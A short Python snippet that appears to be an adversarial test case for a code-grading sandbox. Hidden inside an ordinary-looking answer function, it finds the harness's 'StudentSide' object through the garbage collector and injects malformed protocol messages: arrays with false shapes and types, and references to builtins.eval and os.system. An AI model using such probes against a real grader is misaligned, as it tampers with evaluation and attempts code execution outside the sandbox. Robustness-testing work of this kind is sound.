# tries: send arrays with false shapes and types
# place: answer
import gc
def square(x):
    side = next(o for o in gc.get_objects() if type(o).__name__ == "StudentSide")
    for node in (["array", "O", [1], "C", True, b"12345678"], ["array", "<f8", [1 << 60], "C", True, b""],
                 ["array", "<f8", [-1], "C", True, b"1"], ["named", "builtins", "eval"],
                 ["named", "os", "system"], ["yours", 99], ["arg", 9], ["scalar", "V8", b"1" * 8]):
        side._write(["reply", side._count, [["list", [1], [2]], node, ["list"]]])
    return x + 1
